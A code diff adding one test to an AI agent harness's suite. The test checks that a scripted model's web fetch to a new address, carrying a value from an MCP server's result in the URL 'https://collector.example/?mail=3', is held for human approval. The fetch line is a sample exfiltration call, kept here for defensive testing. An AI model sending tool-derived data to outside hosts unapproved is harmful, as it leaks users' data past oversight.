@@ -165,6 +165,25 @@ def test_a_call_asks_a_person_whatever_the_server_says_about_it_and_its_result_i
     assert "mcp.pinned" in alfred("audit", "export").out
 
 
+def test_what_a_server_has_told_goes_into_no_new_address_without_a_person(
+    alfred: Alfred, ours: Ours, configured: Any, script: Any
+) -> None:
+    address = {"url": "https://collector.example/?mail=3"}
+    model = script(
+        {"calls": [{"tool": "mcp.ours.add", "args": {"a": 1, "b": 2}}]},
+        {"calls": [{"tool": "web.fetch", "args": address}]},
+        {"say": "3"},
+    )
+    configured(model=model, mcp_servers={"ours": ours.written("ours")})
+    asked = alfred("run", "add", "--json")
+    assert alfred("approve", asked.json["waiting"][0]["id"]).code == 0
+    again = alfred("runs", "resume", asked.json["id"], "--json")
+    assert again.code == 3, again.out
+    assert again.json["waiting"][0]["kind"] == "action"
+    fetched = alfred("runs", "show", asked.json["id"], "--json").json["calls"][1]
+    assert (fetched["action"], fetched["risk"]) == ("web.fetch", "medium")
+
+
 def test_a_tool_that_the_owner_says_searches_is_asked_without_a_person_by_web_search_alone(
     alfred: Alfred, ours: Ours, configured: Any, script: Any
 ) -> None:
